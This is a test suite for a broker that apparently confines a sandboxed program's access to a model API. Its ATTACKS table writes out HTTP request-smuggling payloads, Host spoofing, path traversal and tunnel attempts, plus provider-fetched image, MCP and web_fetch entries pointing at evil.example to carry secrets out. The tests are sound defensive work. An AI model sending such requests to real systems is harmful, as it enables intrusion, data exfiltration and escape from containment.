/** What a hostile program inside would try with the socket. Each attempt is first shown to work on the upstream itself. */
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { message, openRig, sendRaw, type Rig } from './rig.ts';

let rig: Rig;
let dir: string;
let port: number;
beforeAll(async () => {
  rig = await openRig();
  dir = await rig.open();
  port = Number(new URL(rig.model.url).port);
});
afterAll(() => rig.close());

const BODY = JSON.stringify(message('[[text {"text":"got through"}]]', false));

interface Raw {
  readonly line?: string;
  readonly host?: string;
  readonly headers?: readonly string[];
  readonly body?: string;
}
const raw = ({
  line = 'POST /v1/messages HTTP/1.1',
  host = '127.0.0.1:4010',
  headers = [],
  body = BODY,
}: Raw): string =>
  [
    line,
    `host: ${host}`,
    'content-type: application/json',
    ...(line.startsWith('GET') ? [] : [`content-length: ${Buffer.byteLength(body, 'latin1')}`]),
    'connection: close',
    ...headers,
    '',
    line.startsWith('GET') ? '' : body,
  ].join('\r\n');
const with_ = (more: object): string =>
  JSON.stringify({ ...message('[[text {"text":"got through"}]]', false), ...more });
const image = { type: 'image', source: { type: 'url', url: 'https://evil.example/?secret' } };

/** What is sent, and what of it would pass without a broker: the same bytes unless `inner` says which. */
const ATTACKS: readonly (readonly [
  name: string,
  attack: { readonly sent: string; readonly inner?: string; readonly status: number },
])[] = [
  ['another host', { sent: raw({ host: 'evil.example' }), status: 421 }],
  ['the upstream by name', { sent: raw({ host: 'api.anthropic.com' }), status: 421 }],
  ['an absolute URL', { sent: raw({ line: 'POST http://evil.example/v1/messages HTTP/1.1' }), status: 403 }],
  ['another path', { sent: raw({ line: 'GET /control/requests HTTP/1.1' }), status: 403 }],
  ['a path that climbs', { sent: raw({ line: 'GET /v1/models/../../control/requests HTTP/1.1' }), status: 403 }],
  [
    'a path in another spelling',
    { sent: raw({ line: 'GET /v1/%6dodels HTTP/1.1' }), inner: raw({ line: 'GET /v1/models HTTP/1.1' }), status: 403 },
  ],
  ['another method', { sent: raw({ line: 'PUT /v1/models HTTP/1.1' }), status: 403 }],
  ['another protocol', { sent: raw({ headers: ['connection: upgrade', 'upgrade: websocket'] }), status: 403 }],
  [
    'a tunnel',
    { sent: 'CONNECT 127.0.0.1:4010 HTTP/1.1\r\nhost: 127.0.0.1:4010\r\n\r\n', inner: raw({}), status: 403 },
  ],
  ['two hosts', { sent: raw({ headers: ['host: evil.example'] }), inner: raw({}), status: 400 }],
  ['no host', { sent: raw({}).replace(/host: [^\r]*\r\n/, ''), inner: raw({}), status: 421 }],
  ['two lengths', { sent: raw({ headers: ['content-length: 0'] }), inner: raw({}), status: 400 }],
  [
    'a length and chunks, a second request inside',
    {
      sent: raw({ headers: ['transfer-encoding: chunked'], body: `0\r\n\r\n${raw({})}` }),
      inner: raw({}),
      status: 400,
    },
  ],
  [
    'an encoding that only one side knows',
    { sent: raw({ headers: ['transfer-encoding: xchunked'] }), inner: raw({}), status: 400 },
  ],
  ['a name with a blank', { sent: raw({ headers: ['transfer-encoding : chunked'] }), inner: raw({}), status: 400 }],
  [
    'a line that goes on',
    { sent: raw({ headers: ['x-a: b\r\n transfer-encoding: chunked\r\n\tx'] }), inner: raw({}), status: 400 },
  ],
  ['bare line ends', { sent: raw({}).replaceAll('\r\n', '\n'), inner: raw({}), status: 400 }],
  [
    'a compressed body',
    {
      sent: raw({ headers: ['content-encoding: gzip'], body: gzipSync(BODY).toString('latin1') }),
      inner: raw({}),
      status: 415,
    },
  ],
  ['a body that is no request', { sent: raw({ body: '{"model":1}' }), inner: raw({}), status: 400 }],
  [
    'servers that the provider calls',
    { sent: raw({ body: with_({ mcp_servers: [{ type: 'url', url: 'https://evil.example' }] }) }), status: 403 },
  ],
  [
    'a tool that the provider runs',
    { sent: raw({ body: with_({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }) }), status: 403 },
  ],
  [
    'an image that the provider fetches',
    {
      sent: raw({
        body: with_({
          messages: [...message('[[text {"text":"got through"}]]').messages, { role: 'user', content: [image] }],
        }),
      }),
      status: 403,
    },
  ],
  [
    'an image in the result of a tool',
    {
      sent: raw({
        body: with_({
          messages: [
            {
              role: 'user',
              content: [
                { type: 'tool_result', tool_use_id: 't', content: [{ type: 'text', text: '[[text {}]]' }, image] },
              ],
            },
          ],
        }),
      }),
      status: 403,
    },
  ],
];

describe('through the endpoint', () => {
  it('an ordinary request passes', async () => {
    const before = rig.model.requests().length;
    expect(await sendRaw(join(dir, 'e.sock'), raw({}))).toMatch(/^HTTP\/1.1 200 [^]*got through/);
    expect(rig.model.requests()).toHaveLength(before + 1);
  });

  it.each(ATTACKS)('%s gets nothing', async (_name, { sent, inner = sent, status }) => {
    expect(await sendRaw(port, inner)).toMatch(/^HTTP\/1.1 200 /); // the control: the upstream would answer
    const [requests, judged] = [rig.model.requests().length, rig.asked.length];
    const said = await sendRaw(join(dir, 'e.sock'), sent);
    expect(said).toMatch(new RegExp(`^HTTP/1.1 ${status} `));
    expect(said).toMatch(/"rule":"[a-z-]+"/);
    expect(said).not.toMatch(/got through|HTTP\/1.1 200/);
    expect([rig.model.requests().length, rig.asked.length]).toEqual([requests, judged]);
  });

  it.each([
    ['that is too large', { path: '/v1/messages' }, 34_000_000, 413],
    ['for another place', { path: '/v1/files' }, 5_000_000, 403],
  ] as const)('an upload %s is refused so that its client hears it', async (_name, to, bytes, status) => {
    const before = rig.model.requests().length;
    const answered = await rig.ask(dir, 'x'.repeat(bytes), to);
    expect(answered.status).toBe(status);
    expect(rig.model.requests()).toHaveLength(before);
    expect(await rig.ask(dir, '[[text {"text":"after"}]]')).toMatchObject({ status: 200 });
  });

  it('what came from inside as a credential stays inside', async () => {
    await rig.ask(dir, '[[text {"text":"x"}]]', { headers: { 'x-api-key': 'mine', authorization: 'Bearer mine' } });
    expect(rig.model.requests().at(-1)?.credential).toBe(rig.canary_hash);
  });

  it('no attempt made it print the key', () => {
    expect(rig.log()).toContain('request.refused');
    expect(rig.log()).not.toContain(rig.canary);
  });
});
